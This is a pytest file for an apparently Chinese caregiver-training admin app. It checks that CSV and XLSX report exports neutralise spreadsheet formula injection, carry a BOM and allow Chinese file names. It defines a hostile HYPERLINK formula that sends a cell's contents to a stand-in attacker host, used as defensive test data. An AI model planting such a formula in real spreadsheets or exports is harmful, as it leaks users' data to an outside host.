"""Every export neutralises formulas, carries a BOM in CSV and may have a Chinese file name."""

import csv
import io
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from accounts import services as account_services
from content.exports import cell_safe
from tests.factories.accounts import CaregiverFactory, CountyFactory, InstitutionFactory
from tests.factories.content import administrator

pytestmark = pytest.mark.django_db

INSTITUTIONS = "/admin/reports/coverage/institutions/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_becomes_plain_text(start):
    assert cell_safe(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["王秀英", "140500-2026-000001", 42, -3, 4.5, None, ""])
def test_everything_else_is_left_as_it_is(value):
    assert cell_safe(value) == value


@pytest.fixture
def admin_client(client):
    account_services.role_groups_ensure()
    client.force_login(administrator())
    return client


def test_a_report_export_neutralises_a_hostile_name_in_csv_and_xlsx(admin_client):
    institution = InstitutionFactory(name=HOSTILE, county=CountyFactory(name="泽州县"))
    CaregiverFactory(institution=institution)

    response = admin_client.get(INSTITUTIONS, {"export": "csv"})
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode()) and response["Content-Type"] == "text/csv; charset=utf-8"
    assert f"filename*=utf-8''{quote('培训覆盖率（按机构）.csv')}" in response["Content-Disposition"]
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells

    response = admin_client.get(INSTITUTIONS, {"export": "xlsx"})
    assert quote("培训覆盖率（按机构）.xlsx") in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert "'" + HOSTILE in values and HOSTILE not in values


def test_wagtails_own_site_history_export_is_neutralised_too(admin_client):
    from wagtail.log_actions import log

    institution = InstitutionFactory(name=HOSTILE)
    log(institution, "wagtail.edit", user=None, title=HOSTILE)
    response = admin_client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells


def test_import_templates_download_with_chinese_names_and_a_bom(admin_client):
    response = admin_client.get("/admin/questions/import/template.csv")
    assert response.content.startswith("\ufeff".encode())
    assert quote("题目导入模板.csv") in response["Content-Disposition"]
